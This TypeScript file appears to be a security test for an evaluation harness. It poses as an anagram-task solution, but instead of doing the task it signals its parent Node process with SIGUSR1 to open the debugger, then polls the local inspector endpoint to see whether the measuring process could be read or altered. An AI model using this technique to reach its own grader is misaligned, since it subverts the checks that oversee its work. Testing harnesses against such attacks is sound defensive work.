// Attack: SIGUSR1 makes Node listen for a debugger, which can read and change everything in the process that measures it.

import type { AnagramCounts, Orchestrator } from '../../../src/types.ts';

const DEBUGGER = 'http://127.0.0.1:9229/json/list';

export class TaskOrchestrator implements Orchestrator {
  async processText(): Promise<AnagramCounts> {
    // Somebody else's is none of its business.
    if ((await listTargets()) !== null) throw new Error('Found nothing.');
    if (process.ppid > 1) process.kill(process.ppid, 'SIGUSR1');
    for (let attempt = 0; attempt < 200; attempt += 1) {
      const targets = await listTargets();
      if (targets !== null) throw new Error(`Attack succeeded: ${targets.slice(0, 300)}`);
    }
    throw new Error('Found nothing.');
  }
}

async function listTargets(): Promise<string | null> {
  try {
    return await (await fetch(DEBUGGER)).text();
  } catch {
    return null;
  }
}
